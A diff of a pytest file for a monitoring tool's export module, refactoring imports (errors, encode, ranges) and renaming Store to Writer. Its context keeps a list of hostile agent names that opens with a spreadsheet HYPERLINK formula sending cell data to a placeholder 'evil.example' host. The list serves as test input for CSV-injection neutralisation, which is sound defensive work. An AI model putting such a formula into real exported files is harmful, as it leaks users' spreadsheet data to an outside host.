@@ -20,10 +20,11 @@ from typing import Any
 import pytest
 from factories import BASE, agent, at, history, snapshot, two_gpus
 
-from tui_monitor import export, outfile
+from tui_monitor import errors, export
+from tui_monitor.export import encode, outfile, ranges
 from tui_monitor.models import AgentEvent, Snapshot
 from tui_monitor.store.queries import History
-from tui_monitor.store.writer import Store
+from tui_monitor.store.writer import Writer
 
 HOSTILE_NAMES = [
     '=HYPERLINK("http://evil.example/?x="&A1, "click")',
@@ -72,7 +73,7 @@ def recorded() -> list[Snapshot]:
 @pytest.fixture
 def db(tmp_path: Path) -> Path:
     path = tmp_path / "history.db"
-    store = Store(path)
+    store = Writer(path)
     try:
         snaps = recorded()
         store.write_batch(snaps[:6])
@@ -166,9 +167,9 @@ def test_non_finite_numbers_become_null() -> None:
 
 
 def test_no_tick_before_the_history_starts(db: Path, tmp_path: Path) -> None:
-    with pytest.raises(export.ExportError, match=r"no tick recorded at or before .* starts at"):
+    with pytest.raises(errors.ExportError, match=r"no tick recorded at or before .* starts at"):
         export.read_moment(db, at(-100))
-    with pytest.raises(export.NoHistory, match=r"no history at .*missing\.db"):
+    with pytest.raises(errors.NoHistory, match=r"no history at .*missing\.db"):
         export.read_moment(tmp_path / "missing.db", at(0))
 
 
@@ -228,7 +229,7 @@ def test_metrics_of_one_agent(db: Path) -> None:
     assert written.rows == 10
     assert {r["agent"] for r in rows} == {"vllm"} and {r["scope"] for r in rows} == {"agent"}
     assert [r["tick"] for r in rows] == [str(i) for i in range(1, 11)]
-    with pytest.raises(export.ExportError, match="no agent named 'nobody'"):
+    with pytest.raises(errors.ExportError, match="no agent named 'nobody'"):
         metrics_csv(db, agent="nobody")
 
 
@@ -301,7 +302,7 @@ def test_csv_cell(value: Any, safe: Any, raw: Any) -> None:
 
 
 def test_progress_is_reported(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    monkeypatch.setattr(export, "PROGRESS_EVERY", 7)
+    monkeypatch.setattr(ranges, "PROGRESS_EVERY", 7)
     calls: list[tuple[int, int]] = []
     written = export.export_metrics(
         db, io.BytesIO(), SINCE, UNTIL, progress=lambda d, t: calls.append((d, t))
@@ -359,9 +360,9 @@ def test_events_filters(db: Path) -> None:
     lines = [json.loads(line) for line in buf.getvalue().decode().splitlines()]
     assert [(e["kind"], e["level"]) for e in lines] == [("queue", "warning"), ("alert", "warning")]
     assert written.rows == 2
-    with pytest.raises(export.ExportError, match="unknown level 'loud'"):
+    with pytest.raises(errors.ExportError, match="unknown level 'loud'"):
         export.export_events(db, io.BytesIO(), SINCE, UNTIL, min_level="loud")
-    with pytest.raises(export.ExportError, match="unknown events format 'xml'"):
+    with pytest.raises(errors.ExportError, match="unknown events format 'xml'"):
         export.export_events(db, io.BytesIO(), SINCE, UNTIL, fmt="xml")
 
 
@@ -379,7 +380,7 @@ def test_event_csv_neutralises_messages(db: Path) -> None:
 
 def test_export_reads_one_moment_while_the_recorder_writes(tmp_path: Path) -> None:
     path = tmp_path / "busy.db"
-    store = Store(path)
+    store = Writer(path)
     names = [f"worker#{i}" for i in range(20)]
     store.write_batch([snapshot(0, [agent(n) for n in names])])
     stop = threading.Event()
@@ -575,7 +576,7 @@ def test_stream_sink(db: Path) -> None:
 
 def test_big_export_streams_through_chunks(out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     rows = ((i, f"=row {i}") for i in range(50_000))
-    chunks = list(export.csv_chunks(("n", "text"), rows))
+    chunks = list(encode.csv_chunks(("n", "text"), rows))
     assert len(chunks) > 5 and all(len(c) < outfile.CHUNK_CHARS + 100 for c in chunks)
     path = outfile.write_atomic(out / "big.csv", chunks)
     lines = path.read_text().splitlines()
